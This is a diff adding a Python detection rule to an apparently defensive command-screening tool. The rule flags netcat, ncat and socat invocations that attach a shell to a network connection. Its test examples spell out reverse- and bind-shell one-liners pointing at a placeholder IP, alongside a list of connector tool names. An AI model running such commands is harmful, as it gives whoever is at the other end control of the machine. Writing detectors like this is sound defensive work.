@@ -1,0 +1,48 @@
+"""Shells that the network controls."""
+
+from __future__ import annotations
+
+from sandguard.commands.effects import Fetches, Listens, Runs, RunsCode, Sends, StartsShell
+from sandguard.rules.rule import Match, rule
+from sandguard.rules.wording import named
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from sandguard.flow.program import Program
+
+NETWORKS = (Fetches, Listens, Sends)
+CONNECTORS = frozenset(("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd"))
+
+
+@rule(
+    technique="T1059.004",
+    severity="high",
+    effects=(Runs, RunsCode, StartsShell),
+    is_reversible=False,
+    match=(
+        "nc -e /bin/sh 192.0.2.1 4444",
+        "nc -l -p 4444 -e /bin/bash",
+        "ncat 192.0.2.1 4444 --exec /bin/bash",
+        "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
+    ),
+    no_match=("nc -z localhost 80", "nc -l 8080", "echo 'nc -e /bin/sh 192.0.2.1 4444'", "socat -V"),
+)
+def remote_shell(program: Program) -> Iterator[Match]:
+    """A program connects a network connection with a shell or another program, so that whoever is at the other end commands it.
+
+    No ordinary task needs it. Connections that only carry data are judged by what flows through them.
+    """
+    for invocation in program.invocations:
+        has_connection = any(isinstance(effect, NETWORKS) for effect in invocation.effects)
+        if not has_connection:
+            continue
+        for effect in invocation.effects:
+            if isinstance(effect, Runs) and invocation.name.text in CONNECTORS:
+                message = f"connects {named(effect.arguments[0].value) if effect.arguments else 'a program'} to the network"
+            elif isinstance(effect, (RunsCode, StartsShell)) and invocation.name.text in CONNECTORS:
+                message = "connects a shell to the network"
+            else:
+                continue
+            yield Match(invocation.source, effect.span, message)
